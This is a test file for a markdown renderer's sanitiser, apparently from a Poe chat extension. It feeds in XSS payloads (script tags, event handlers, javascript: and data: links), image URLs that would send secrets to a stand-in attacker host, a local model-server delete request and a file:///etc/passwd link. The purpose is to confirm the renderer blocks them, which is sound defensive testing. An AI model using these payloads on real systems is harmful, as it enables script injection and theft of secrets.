// @vitest-environment happy-dom
import { afterEach, describe, expect, it, vi } from 'vitest';
import { StreamingMarkdown, imageTrust, renderMarkdown, type MarkdownOptions } from '@/lib/markdown';
import { HOSTILE_SHAPES } from '../bench/hostile';

function render(text: string, options?: MarkdownOptions): HTMLElement {
  const el = document.createElement('div');
  document.body.appendChild(el);
  renderMarkdown(el, text, options);
  return el;
}

/** Every tag and attribute the renderer may produce. */
const ALLOWED: Record<string, string[]> = {
  DIV: ['class'], P: [], H1: [], H2: [], H3: [], H4: [], H5: [], H6: [], BLOCKQUOTE: [], HR: [], UL: ['class'],
  OL: ['start', 'class'], LI: ['class'], PRE: ['tabindex'], CODE: ['class'], EM: [], STRONG: [], DEL: [], BR: [], SPAN: ['class'],
  A: ['href', 'title', 'target', 'rel'], IMG: ['src', 'alt', 'title', 'loading', 'referrerpolicy'],
  BUTTON: ['type', 'class', 'title'], INPUT: ['type', 'disabled', 'checked', 'aria-label'], TABLE: [], THEAD: [], TBODY: [], TR: [],
  TH: ['align'], TD: ['align'],
};

function audit(el: HTMLElement): string[] {
  const problems: string[] = [];
  for (const node of Array.from(el.querySelectorAll('*'))) {
    const allowed = ALLOWED[node.tagName];
    if (!allowed) problems.push(`tag ${node.tagName}`);
    for (const attr of Array.from(node.attributes)) {
      if (!allowed?.includes(attr.name)) problems.push(`${node.tagName}[${attr.name}]`);
    }
    const href = node.getAttribute('href');
    if (href !== null && !/^(https?:|mailto:)/.test(href)) problems.push(`href ${href}`);
    const src = node.getAttribute('src');
    if (src !== null && !src.startsWith('https://pfst.cf2.poecdn.net/')) problems.push(`src ${src}`);
  }
  return problems;
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<style>body{display:none}</style>',
  '<div style="position:fixed;inset:0">overlay</div>',
  '<svg onload=alert(1)><circle/></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.example"><input name=key></form>',
  '<!-- comment --> <details open ontoggle=alert(1)>',
  'text <span onclick="alert(1)">click</span> `<b onmouseover=x>`',
  '[a](javascript:alert(1)) [b](JAVASCRIPT:alert(1)) [c]( javascript:alert(1)) [d](java%0ascript:alert(1))',
  '[e](vbscript:msgbox(1)) [f](data:text/html,<script>alert(1)</script>) [g](file:///etc/passwd) [h](/relative)',
  '[i](&#106;avascript:alert(1)) [j](javascript&#58;alert(1)) [k](<javascript:alert(1)>)',
  '<javascript:alert(1)> <vbscript:x> <data:text/html,x>',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '![x](javascript:alert(1)) ![y](data:image/svg+xml,<svg onload=alert(1)>) ![z](https://evil.example/a.png?k=SECRET)',
  '[![img](https://evil.example/p.png)](https://evil.example/)',
  '```html" onmouseover="alert(1)\n<script>\n```',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:1) | ![](https://evil.example/t.png) |',
  '- [x] <input type=checkbox onclick=alert(1)>\n> <blockquote style="color:red">',
  '# <h1 id="clobber" name="x">',
  '![cdn](https://pfst.cf2.poecdn.net/base/image/ok.png)',
];

describe('sanitising by construction', () => {
  it.each(HOSTILE)('produces only allow-listed tags and attributes: %s', (text) => {
    const el = render(text);
    expect(audit(el)).toEqual([]);
    expect(el.innerHTML).not.toMatch(/<(script|iframe|style|svg|form|details)\b/i);
    // Text is escaped (&lt;), so every "<" in the serialisation opens a real element.
    expect(el.innerHTML).not.toMatch(/<[a-z][^>]*\s(on\w+|style|id|name)=/i);
  });

  it('shows raw HTML as text', () => {
    const el = render('Hi <b onclick="x">there</b>\n\n<script>alert(1)</script>');
    expect(el.querySelector('b, script')).toBeNull();
    expect(el.textContent).toBe('Hi <b onclick="x">there</b><script>alert(1)</script>');
  });

  it('renders links with other schemes as their plain text', () => {
    const el = render('[click me](javascript:alert(1)) and [mail](mailto:a@b.example) and [doc](data:text/html,hi)');
    expect(Array.from(el.querySelectorAll('a'), (a) => a.getAttribute('href'))).toEqual(['mailto:a@b.example']);
    expect(el.textContent).toBe('click me and mail and doc');
  });

  it('a link whose text names another host says where it really goes', () => {
    const realHost = (md: string) => render(md).querySelector('a .md-real-host')?.textContent ?? null;
    expect(realHost('[paypal.com](https://evil.example/login)')).toBe(' (goes to evil.example)');
    expect(realHost('[https://paypal.com/login](https://paypal.com.evil.example/)')).toBe(' (goes to paypal.com.evil.example)');
    // A look-alike in Cyrillic compares (and is shown) in punycode.
    expect(realHost('[аpple.com](https://xn--pple-43d.com/)')).toBeNull();
    expect(realHost('[apple.com](https://xn--pple-43d.com/)')).toBe(' (goes to xn--pple-43d.com)');
    // The same site, plain words, files and libraries: nothing added.
    expect(realHost('[www.paypal.com](https://paypal.com/)')).toBeNull();
    expect(realHost('[https://example.com](https://example.com/a)')).toBeNull();
    expect(realHost('[the docs](https://evil.example/)')).toBeNull();
    expect(realHost('[Node.js](https://nodejs.org/)')).toBeNull();
    expect(realHost('[report.pdf](https://files.example/report.pdf)')).toBeNull();
    expect(realHost('https://bare.example/x')).toBeNull();
    // Inside the link, so a reader of the link (and a screen reader) gets it too.
    const link = render('[bank.example](https://evil.example/)').querySelector('a');
    expect(link?.textContent).toBe('bank.example (goes to evil.example)');
  });

  it('opens every link in a new tab without opener or referrer', () => {
    const el = render('[a](https://a.example) <https://b.example> https://c.example');
    const links = Array.from(el.querySelectorAll('a'));
    expect(links).toHaveLength(3);
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });
});

describe('images', () => {
  afterEach(() => {
    document.body.replaceChildren();
  });

  it('shows a click-to-load button naming the host instead of loading a remote image', () => {
    const el = render('![secret](https://evil.example/log?d=API_KEY)');
    expect(el.querySelector('img')).toBeNull();
    const button = el.querySelector('button.md-img-load');
    expect(button?.textContent).toBe('Load image from evil.example');
    (button as HTMLButtonElement).click();
    const img = el.querySelector('img');
    expect(img?.getAttribute('src')).toBe('https://evil.example/log?d=API_KEY');
    expect(img?.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(el.querySelector('button.md-img-load')).toBeNull();
  });

  it('keeps a loaded image loaded while the message keeps streaming', () => {
    const el = document.createElement('div');
    document.body.appendChild(el);
    const md = new StreamingMarkdown(el);
    md.append('![p](https://evil.example/p.png) and more');
    (el.querySelector('button.md-img-load') as HTMLButtonElement).click();
    md.append(' text');
    md.finish();
    expect(el.querySelector('img')?.getAttribute('src')).toBe('https://evil.example/p.png');
  });

  it('loads Poe CDN images directly; loopback, LAN and look-alike hosts wait for a click naming host and port', () => {
    expect(render('![a](https://pfst.cf2.poecdn.net/x.png)').querySelector('img')?.getAttribute('src')).toBe('https://pfst.cf2.poecdn.net/x.png');
    expect(render('![a](http://pfst.cf2.poecdn.net/x.png)').querySelector('img')).toBeNull();
    expect(render('![a](https://poecdn.net.evil.example/x.png)').querySelector('img')).toBeNull();
    const local = render('![x](http://127.0.0.1:11434/api/delete?model=all)');
    expect(local.querySelector('img')).toBeNull();
    expect(local.querySelector('button.md-img-load')?.textContent).toBe('Load image from 127.0.0.1:11434');
    expect(render('![x](http://localhost/x.png)').querySelector('button.md-img-load')?.textContent).toBe('Load image from localhost');
    expect(render('![x](http://192.168.1.1/x.png)').querySelector('button.md-img-load')?.textContent).toBe('Load image from 192.168.1.1');
  });

  it("a local Poe server's exact origin loads directly, as bytes (the CSP keeps http out of <img>); its other ports do not", async () => {
    const requested: string[] = [];
    const options = {
      imageTrust: imageTrust('http://127.0.0.1:8787'),
      loadImage: async (src: string) => {
        requested.push(src);
        return 'blob:chrome-extension://x/1';
      },
    };
    const el = render('![own](http://127.0.0.1:8787/files/a.png) ![other](http://127.0.0.1:11434/x.png)', options);
    const images = el.querySelectorAll('img');
    expect(images).toHaveLength(1);
    expect(images[0]?.hasAttribute('src')).toBe(false);
    expect(requested).toEqual(['http://127.0.0.1:8787/files/a.png']);
    await vi.waitFor(() => expect(images[0]?.getAttribute('src')).toBe('blob:chrome-extension://x/1'));
    expect(el.querySelector('button.md-img-load')?.textContent).toBe('Load image from 127.0.0.1:11434');
  });

  it('an http image clicked to load is fetched as bytes; one that cannot be becomes a link that says so', async () => {
    const options = { loadImage: () => Promise.reject(new Error('no access')) };
    const el = render('![router](http://192.168.1.1/cam.png)', options);
    (el.querySelector('button.md-img-load') as HTMLButtonElement).click();
    await vi.waitFor(() => expect(el.querySelector('img')).toBeNull());
    const link = el.querySelector('a');
    expect(link?.getAttribute('href')).toBe('http://192.168.1.1/cam.png');
    expect(link?.textContent).toBe('router: image from 192.168.1.1 could not be shown here; open it in a new tab');
    const unnamed = render('![](http://192.168.1.1/cam.png)', options);
    (unnamed.querySelector('button.md-img-load') as HTMLButtonElement).click();
    await vi.waitFor(() => expect(unnamed.querySelector('a')?.textContent).toBe('image from 192.168.1.1 could not be shown here; open it in a new tab'));
  });

  it('a custom trust decides alone', () => {
    const custom = { imageTrust: (url: URL) => url.hostname === 'img.example' };
    expect(render('![a](https://img.example/x.png)', custom).querySelector('img')).not.toBeNull();
    expect(render('![a](https://pfst.cf2.poecdn.net/x.png)', custom).querySelector('img')).toBeNull();
  });

  it('puts raster data: images behind a click and blocks other data: and script URLs', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    const el = render(`![dot](${png}) ![svg](data:image/svg+xml;base64,PHN2Zz4=) ![js](javascript:alert(1))`);
    expect(el.querySelector('img')).toBeNull();
    const buttons = el.querySelectorAll('button.md-img-load');
    expect(Array.from(buttons, (b) => b.textContent)).toEqual(['Load embedded image']);
    expect(el.textContent).toContain('svg');
    expect(el.textContent).toContain('js');
  });

  it('treats inline_ref files like any other image URL (host policy applies)', () => {
    const inlineFiles = new Map([
      ['ok', { url: 'https://pfst.cf2.poecdn.net/a.png', contentType: 'image/png', name: 'a.png' }],
      ['bad', { url: 'https://evil.example/b.png', contentType: 'image/png', name: 'b.png' }],
    ]);
    const el = render('![A][ok] ![B][bad] ![C][missing]', { inlineFiles });
    expect(Array.from(el.querySelectorAll('img'), (i) => i.getAttribute('src'))).toEqual(['https://pfst.cf2.poecdn.net/a.png']);
    expect(el.querySelector('button.md-img-load')?.textContent).toBe('Load image from evil.example');
    expect(el.textContent).toContain('![C][missing]');
  });

  it('does not follow the surrounding link when the placeholder is clicked', () => {
    const el = render('[![p](https://evil.example/p.png)](https://x.example)');
    const button = el.querySelector('a button.md-img-load') as HTMLButtonElement;
    const event = new MouseEvent('click', { bubbles: true, cancelable: true });
    button.dispatchEvent(event);
    expect(event.defaultPrevented).toBe(true);
    expect(el.querySelector('a img')).not.toBeNull();
  });
});

describe('copy button', () => {
  it('copies the code text with navigator.clipboard.writeText', async () => {
    const writeText = vi.fn(async (_text: string) => undefined);
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
    const el = render('```sh\necho "<hi>" && rm -rf x\n```');
    const button = el.querySelector('button.md-copy') as HTMLButtonElement;
    button.click();
    await vi.waitFor(() => expect(button.textContent).toBe('Copied'));
    expect(writeText).toHaveBeenCalledWith('echo "<hi>" && rm -rf x');
  });
});

function maxDepth(root: Element): number {
  let max = 0;
  const stack: [Element, number][] = [[root, 0]];
  for (let top = stack.pop(); top; top = stack.pop()) {
    max = Math.max(max, top[1]);
    for (const child of Array.from(top[0].children)) stack.push([child, top[1] + 1]);
  }
  return max;
}

/**
 * No clock here: how long these take, and how that grows with their size, is printed by
 * `node --import tsx tests/bench/hostile-render.ts`. A real hang still fails the run (Vitest's test timeout).
 */
describe('hostile shapes neither crash nor escape the allow-list', () => {
  it.each(HOSTILE_SHAPES.map((shape) => [shape.name, shape.make(1)]))('%s', (_name, text) => {
    const el = render(text);
    expect(el.childNodes.length).toBeGreaterThan(0);
    expect(audit(el)).toEqual([]);
    expect(maxDepth(el)).toBeLessThan(140);
  });
});
